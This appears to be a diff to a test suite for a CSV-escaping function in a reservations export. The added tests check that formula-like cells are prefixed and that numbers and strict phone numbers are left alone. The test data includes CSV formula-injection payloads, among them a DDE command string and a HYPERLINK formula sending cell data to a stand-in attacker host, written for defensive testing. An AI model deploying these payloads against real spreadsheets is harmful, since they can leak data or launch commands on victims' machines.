@@ -9,9 +9,48 @@ describe('reservations CSV', () => {
     expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
     expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
     expect(csvField('-cmd')).toBe("'-cmd");
-    expect(csvField('+44 20 7946 0001')).toBe('+44 20 7946 0001');
     expect(csvField(null)).toBe('');
     expect(csvField(4)).toBe('4');
+  });
+
+  it('prefixes every cell a spreadsheet could run as a formula, whatever follows its first character', () => {
+    const attacks = [
+      '=1+1',
+      '+1+cmd|\' /C calc\'!A0',
+      '-2+3+HYPERLINK("https://evil.example/?leak="&H2,"Details")',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '-1 ',
+      '+ 1',
+      '- 2+3',
+      '+1+1',
+      '-1e3',
+      '-0x10',
+      '+44 20 7946 0000+HYPERLINK("x")',
+      '＝1+1',
+      '＋1+1',
+      '－2+3',
+      '＠SUM(A1)',
+    ];
+    for (const attack of attacks) {
+      const cell = csvField(attack);
+      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
+      expect(unquoted, JSON.stringify(attack)).toBe(`'${attack}`);
+    }
+  });
+
+  it('leaves alone a value that is wholly a number and a phone number in international form', () => {
+    expect(csvField('+44 20 7946 0000')).toBe('+44 20 7946 0000');
+    expect(csvField('+1 212 555 0100')).toBe('+1 212 555 0100');
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField('-42')).toBe('-42');
+    expect(csvField('-12.5')).toBe('-12.5');
+    expect(csvField('+7')).toBe('+7');
+    // Not phone numbers by the strict pattern: prefixed.
+    expect(csvField('+44  20 7946 0000')).toBe("'+44  20 7946 0000");
+    expect(csvField('+12 3')).toBe("'+12 3");
+    expect(csvField('+44 20 7946 0000 ')).toBe("'+44 20 7946 0000 ");
   });
 
   it('writes one line per reservation in the header order', () => {
